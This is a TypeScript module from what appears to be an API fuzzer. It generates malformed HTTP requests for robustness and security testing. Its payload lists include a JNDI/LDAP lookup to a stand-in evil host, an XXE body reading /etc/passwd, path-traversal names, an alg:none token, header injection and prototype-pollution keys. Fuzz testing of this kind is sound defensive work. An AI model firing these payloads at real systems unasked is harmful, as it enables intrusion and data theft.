import { gzipSync } from 'node:zlib'
import type { Request } from '../access/rights.ts'
import { breakOne } from './break-one.ts'
import { type Making, makeValue, type Schema } from './from-schema.ts'
import { oddText, oddValue, writeJson } from './odd-values.ts'
import type { Operation } from './operations.ts'

/** The defective part of a request, or 'nothing'. */
type Fault = 'nothing' | 'body' | 'query' | 'path' | 'headers' | 'bytes'

export type FuzzedRequest = {
  fault: Fault
  /** The field of the body that was broken, if one was. */
  field: string | null
  target: string
  headers: [string, string][]
  body: Buffer | null
}

/** Makes one request to the operation, from a well-formed one (`known`) or from the schema. */
export function makeRequest(op: Operation, known: Request | null, making: Making): FuzzedRequest {
  const { random } = making
  const fault = faultFor(op, making)
  const target = buildTarget(op, { known, making, fault })
  const headers = buildHeaders(op, { known, making })
  const request = { fault, field: null, target }
  if (fault === 'bytes')
    return { ...request, headers: typed(headers, random.pick(TYPES)), body: oddBytes(making) }
  if (op.form) {
    const boundary = `b${random.below(1e9)}`
    const body = buildForm(op.form, { making, boundary, broken: fault === 'body' })
    const type = `multipart/form-data; boundary=${boundary}`
    return { ...request, headers: withOdd(typed(headers, type), fault, making), body }
  }
  const value = buildBody(op, { known, making })
  const broken = fault === 'body' ? breakOne(value, random) : { body: value, field: null }
  const body = broken.body === undefined ? null : Buffer.from(writeJson(broken.body))
  const all = body ? typed(headers, 'application/json') : headers
  return { ...request, field: broken.field, headers: withOdd(all, fault, making), body }
}

function faultFor(op: Operation, { random }: Making): Fault {
  const dice = random.next()
  const takesBody = op.body !== null || op.form !== null
  if (dice < 0.3) return 'nothing'
  if (dice < 0.65) return takesBody ? 'body' : random.pick(['query', 'path', 'nothing', 'headers'] as const)
  if (dice < 0.77) return 'query'
  if (dice < 0.85) return op.params.length > 0 ? 'path' : 'query'
  return dice < 0.95 ? 'headers' : 'bytes'
}

type Needs = { known: Request | null; making: Making }

function buildTarget(op: Operation, { known, making, fault }: Needs & { fault: Fault }): string {
  const { random } = making
  const path = op.path.replace(/\{(\w+)\}/g, (_, name: string) => {
    if (fault === 'path' && random.chance(0.8)) return oddPart(making)
    const given = known?.params?.[name]
    if (given !== undefined && random.chance(0.75)) return encodeURIComponent(given)
    const schema = op.params.find((parameter) => parameter.name === name)?.schema ?? {}
    return encodeURIComponent(String(makeValue(schema, making)))
  })
  if (fault === 'path' && random.chance(0.15))
    return path + random.pick(['/', '//', '/..', '/%2e%2e', ';a=b', '%00', '.json'])
  return path + buildQuery(op, { known, making, fault })
}

const BAD_ESCAPES = [
  '%',
  '%ZZ',
  '%00',
  '%C0%AF',
  '%E0%A4%A',
  '%FF%FE',
  '..%2f..%2fetc',
  '%2e%2e%2f',
  '%0d%0aa:b',
  '%ED%A0%80',
]

function oddPart({ random }: Making): string {
  if (random.chance(0.4)) return random.pick(BAD_ESCAPES)
  return encodeURIComponent(oddText(random).slice(0, 2_000)) || '%20'
}

function buildQuery(op: Operation, { known, making, fault }: Needs & { fault: Fault }): string {
  const { random } = making
  if (known?.query && fault !== 'query' && random.chance(0.5)) return known.query
  const wanted = op.query.filter((parameter) => parameter.required || random.chance(0.4))
  const pairs = wanted.map(({ name, schema }): [string, string] => [name, toText(makeValue(schema, making))])
  if (fault === 'query') spoil(pairs, op, making)
  if (pairs.length === 0) return ''
  return `?${pairs.map(([name, value]) => `${name}=${value}`).join('&')}`
}

const toText = (value: unknown) =>
  encodeURIComponent(typeof value === 'object' ? writeJson(value) : String(value)).slice(0, 3_000)

function spoil(pairs: [string, string][], op: Operation, making: Making): void {
  const { random } = making
  const names = op.query.map(({ name }) => name)
  const name =
    names.length > 0 && random.chance(0.7)
      ? random.pick(names)
      : random.pick(['colour', '__proto__', 'constructor', 'a[b]', 'page[]'])
  const value = random.chance(0.2)
    ? random.pick(BAD_ESCAPES)
    : encodeURIComponent(oddText(random).slice(0, 2_000))
  const at = pairs.findIndex(([one]) => one === name)
  // Replaces the parameter, or adds one with the same name.
  if (at >= 0 && random.chance(0.7)) pairs[at] = [name, value]
  else pairs.push([name, value])
}

function buildHeaders(op: Operation, { known, making }: Needs): [string, string][] {
  const own = Object.entries(known?.headers ?? {}).filter(([name]) => name !== 'idempotency-key')
  const described = op.headers
    .filter(({ required }) => required || making.random.chance(0.3))
    .map(({ name, schema }): [string, string] => [name, String(makeValue(schema, making))])
  return [...own, ...described.map(([name, value]): [string, string] => [name, fit(value)])]
}

// Keeps only characters that a header can contain; other characters are a separate fault.
const fit = (value: string) => value.replace(/[^\x20-\x7e]/g, '_').trim() || 'k'

const TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=utf-7',
  'application/json;;;',
  'text/plain',
  'application/x-www-form-urlencoded',
  'application/xml',
  'multipart/form-data',
  'multipart/form-data; boundary=x',
  'application/octet-stream',
  '*/*',
  '',
]

const ODD_HEADERS: [string, string][] = [
  ['authorization', 'Bearer a.b.c'],
  ['authorization', 'Bearer'],
  ['authorization', `Bearer fwk_${'a'.repeat(43)}`],
  ['authorization', 'Bearer fwk_'],
  ['authorization', 'Basic YTpi'],
  ['authorization', `Bearer ${Buffer.from('{"alg":"none"}').toString('base64url')}.e30.`],
  ['idempotency-key', 'k'.repeat(9_000)],
  ['idempotency-key', 'two'],
  ['idempotency-key', ''],
  ['idempotency-key', 'caf\u00e9 \u00ff'],
  ['cookie', 'XSRF-TOKEN=a; XSRF-TOKEN=b'],
  ['cookie', '__proto__=1; constructor=2'],
  ['cookie', ';;;=;'],
  ['x-xsrf-token', 'a'],
  ['accept', 'text/html'],
  ['accept', '*/*;q=zzz,,,'],
  ['accept-language', 'x'.repeat(2_000)],
  ['accept-encoding', 'br;q=0, gzip;q=0, zstd;q=nonsense'],
  ['if-none-match', '*'],
  ['if-none-match', `${'"a",'.repeat(500)}"b"`],
  ['if-modified-since', 'yesterday'],
  ['range', 'bytes=0-0,2-1,-5'],
  ['x-forwarded-for', '203.0.113.9, ::1, nonsense'],
  ['x-forwarded-host', 'evil.example.test'],
  ['forwarded', 'for=_hidden;host=evil.example.test'],
  ['x-http-method-override', 'DELETE'],
  ['x-original-url', '/api/api/admin/users'],
  ['user-agent', 'u'.repeat(4_000)],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is sent unchanged
  ['user-agent', '${jndi:ldap://evil.example.test/a}'],
  ['referer', 'javascript:alert(1)'],
  ['origin', 'null'],
  ['origin', 'https://evil.example.test'],
  ['content-encoding', 'gzip'],
  ['expect', '100-continue'],
  ['last-event-id', '\u00ff\u00fe'],
  ['content-type', 'application/json'],
  ['content-type', 'text/plain'],
  ['__proto__', 'polluted'],
  ['constructor', 'polluted'],
]

function withOdd(headers: [string, string][], fault: Fault, { random }: Making): [string, string][] {
  if (fault !== 'headers') return headers
  const odd = Array.from({ length: 1 + random.below(3) }, () => random.pick(ODD_HEADERS))
  // Before or after the valid header: readers differ in which of two equal headers they use.
  return random.chance(0.5) ? [...odd, ...headers] : [...headers, ...odd]
}

const typed = (headers: [string, string][], type: string): [string, string][] => [
  ...headers,
  ['content-type', type],
]

function buildBody(op: Operation, { known, making }: Needs): unknown {
  if (known?.body !== undefined && making.random.chance(0.7)) return known.body
  if (op.body) return makeValue(op.body, making)
  return making.random.chance(0.2) && op.method !== 'GET' ? {} : undefined
}

function oddBytes({ random }: Making): Buffer {
  const makers: (() => Buffer)[] = [
    () => Buffer.from('{"email": "a@exa'),
    () => Buffer.from('\ufeff{}'),
    () => Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]),
    () => Buffer.from([0xc0, 0x80, 0xed, 0xa0, 0x80]),
    () => gzipSync('{}'),
    () => Buffer.from('[]'),
    () => Buffer.from('null'),
    () => Buffer.from('"text"'),
    () => Buffer.from('-'),
    () => Buffer.from('a=1&b[c]=2&__proto__[d]=3'),
    () =>
      Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    () => Buffer.from('['.repeat(100_000)),
    () => Buffer.from('{"a":'.repeat(40_000)),
    () => Buffer.from(`{"a":"${'x'.repeat(200_000)}"}`),
    () => Buffer.from(`{${'"a":1,'.repeat(20_000)}"b":1}`),
    () => Buffer.from(`--x\r\ncontent-disposition: form-data; name="a"\r\n\r\n1\r\n--x--\r\n`),
    () => Buffer.alloc(64, 0),
    () => Buffer.alloc(0),
  ]
  return random.pick(makers)()
}

type FormNeeds = { making: Making; boundary: string; broken: boolean }

const FILES: { name: string; type: string; content: Buffer }[] = [
  { name: 'aoc.pdf', type: 'application/pdf', content: Buffer.from('%PDF-1.7\n%%EOF') },
  { name: '../../etc/passwd', type: 'application/pdf', content: Buffer.from('%PDF-1.7\n') },
  { name: 'a"; filename="b.exe', type: 'text/html', content: Buffer.from('<script>alert(1)</script>') },
  { name: '\u202efdp.exe', type: 'application/pdf', content: Buffer.from('MZ') },
  { name: 'a.docx', type: 'application/zip', content: Buffer.from('PK\u0003\u0004\u0000\u0000') },
  { name: 'empty.pdf', type: 'application/pdf', content: Buffer.alloc(0) },
  { name: `${'n'.repeat(3_000)}.png`, type: 'image/png', content: Buffer.from([0x89, 0x50, 0x4e, 0x47]) },
]

function buildForm(schema: Schema, { making, boundary, broken }: FormNeeds): Buffer {
  const { random } = making
  const parts = Object.entries(schema.properties ?? {}).map(([name, one]) => {
    if (one.format === 'binary') {
      const {
        name: fileName,
        type,
        content,
      } = broken ? random.pick(FILES) : (FILES[0] as (typeof FILES)[number])
      const head = `--${boundary}\r\ncontent-disposition: form-data; name="${name}"; filename="${fileName}"\r\ncontent-type: ${type}\r\n\r\n`
      return Buffer.concat([Buffer.from(head), content, Buffer.from('\r\n')])
    }
    const value = broken && random.chance(0.4) ? writeJson(oddValue(random)) : String(makeValue(one, making))
    const field =
      broken && random.chance(0.1) ? random.pick(['__proto__', 'constructor', '', 'x'.repeat(300)]) : name
    return Buffer.from(`--${boundary}\r\ncontent-disposition: form-data; name="${field}"\r\n\r\n${value}\r\n`)
  })
  if (broken && random.chance(0.3)) parts.push(...parts)
  if (broken && random.chance(0.2)) return Buffer.concat(parts.slice(1))
  return Buffer.concat([...parts, Buffer.from(`--${boundary}--\r\n`)])
}
